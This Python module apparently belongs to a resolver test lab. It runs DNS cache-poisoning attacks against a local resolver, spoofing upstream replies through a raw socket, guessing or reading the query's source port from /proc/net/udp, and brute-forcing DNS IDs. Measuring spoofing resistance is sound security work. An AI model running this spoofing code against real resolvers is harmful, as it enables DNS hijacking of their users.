"""Forges replies of the upstream: from elsewhere, or as another user of the node's host, who can see its ports.

Each question is asked by the forger and answered slowly, so that it knows what is asked, and when. Needs the right to
send from other addresses (CAP_NET_RAW).
"""

from __future__ import annotations

import random
import select
import socket
import struct
import time
from collections.abc import Callable, Iterator
from pathlib import Path

from bench.load import query
from siege.lab import Lab
from siege.meddlers import ask

HERE = "127.0.0.1"
FORGED = socket.inet_aton("203.0.113.66")
#: Offsets in a packet: the destination port, and the ID of the DNS message.
PORT, IDENT = 22, 28
#: Seconds for which replies to a question are forged: the upstream takes a little longer.
WINDOW = 1.4
#: Seconds after which only slow questions are outstanding.
SETTLED = 0.03
#: Packets between two checks for an answer; packets to each port that belongs to another question.
BURST, ELSEWHERE = 500, 25


class Forger:
    """Sends replies from arbitrary addresses and ports."""

    def __init__(self, server: tuple[str, int]) -> None:
        self.server = server
        #: Packets sent.
        self.sent = 0
        self._raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def packet(self, source: tuple[str, int], target: tuple[str, int], data: bytes) -> bytearray:
        """A datagram without a checksum, which is optional over IPv4."""
        udp = struct.pack("!HHHH", source[1], target[1], 8 + len(data), 0) + data
        here, there = socket.inet_aton(source[0]), socket.inet_aton(target[0])
        return bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, here, there) + udp)

    def send(self, packet: bytearray) -> None:
        self._raw.sendto(packet, (HERE, 0))
        self.sent += 1

    def close(self) -> None:
        self._raw.close()


def forged(asked: bytes) -> bytes:
    """The forged reply to a query."""
    end = asked.index(b"\0", 12) + 5
    record = b"\xc0\x0c\0\1\0\1\0\0\1\x2c\0\4" + FORGED
    return asked[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + asked[12:end] + record


#: Where to send a forged reply, and its ID, again and again; given the ports that were in use before the question.
Aim = Callable[[Lab, set[int]], Iterator[tuple[int, int]]]


def from_elsewhere(lab: Lab, seconds: float) -> dict[str, float]:
    """Guess both port and ID."""
    first, last = map(int, Path("/proc/sys/net/ipv4/ip_local_port_range").read_text().split())

    def aim(_: Lab, before: set[int]) -> Iterator[tuple[int, int]]:
        while True:
            yield random.randint(first, last), random.getrandbits(16)

    return _forge(lab, seconds, aim)


def from_this_host(lab: Lab, seconds: float) -> dict[str, float]:
    """See the port and try every ID; other ports get some replies as well, as a disturbance."""
    return _forge(lab, seconds, _at_what_is_seen)


def _at_what_is_seen(lab: Lab, before: set[int]) -> Iterator[tuple[int, int]]:
    time.sleep(SETTLED)
    seen = ports_to(lab.upstream)
    for port in seen & before:
        yield from ((port, random.getrandbits(16)) for _ in range(ELSEWHERE))
    for ident in random.sample(range(1 << 16), 1 << 16):
        yield from ((port, ident) for port in seen - before)


def _forge(lab: Lab, seconds: float, aim: Aim) -> dict[str, float]:
    """The results: questions with a forged answer, at once or later from a cache."""
    forger = Forger((HERE, lab.upstream))
    names: list[str] = []
    ends = time.monotonic() + seconds
    try:
        while time.monotonic() < ends:
            names.append(f"s{len(names)}-{time.monotonic_ns() % 10**9}.forged.test")
            _attack(lab, forger, names[-1], aim)
        accepted = sum(reply.endswith(FORGED) for reply in ask(lab.port, names).values())
    finally:
        forger.close()
    return {"questions": len(names), "forged": forger.sent, "accepted": accepted}


def _attack(lab: Lab, forger: Forger, name: str, aim: Aim) -> None:
    asked = query(name, 1)
    packet = forger.packet(forger.server, (HERE, 0), forged(asked))
    before = ports_to(lab.upstream)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((HERE, lab.port))
        sock.setblocking(False)
        sock.send(asked)
        ends = time.monotonic() + WINDOW
        for number, (port, ident) in enumerate(aim(lab, before), 1):
            packet[PORT : PORT + 2] = port.to_bytes(2, "big")
            packet[IDENT : IDENT + 2] = ident.to_bytes(2, "big")
            forger.send(packet)
            if number % BURST == 0 and (time.monotonic() >= ends or select.select([sock], [], [], 0)[0]):
                return


def ports_to(port: int) -> set[int]:
    """The ports of this host's UDP sockets that are connected to a port of it."""
    found = set()
    for line in Path("/proc/net/udp").read_text().splitlines()[1:]:
        words = line.split()
        if words[2] == f"0100007F:{port:04X}":
            found.add(int(words[1].partition(":")[2], 16))
    return found
